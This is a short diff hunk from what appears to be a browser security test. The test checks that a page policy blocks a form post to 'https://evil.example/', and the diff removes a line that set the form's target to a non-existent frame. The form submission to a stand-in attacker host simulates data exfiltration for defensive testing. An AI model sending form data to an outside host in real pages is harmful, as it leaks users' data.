@@ -79,8 +79,6 @@ test('the policy stops what a page of an attacker would need', async ({ host: { 
     const form = document.createElement('form');
     form.method = 'post';
     form.action = 'https://evil.example/';
-    // A frame that is not there: the page stays even where it is sent.
-    form.target = 'elsewhere';
     document.body.append(form);
     form.submit();
     return promise.finally(() => form.remove());
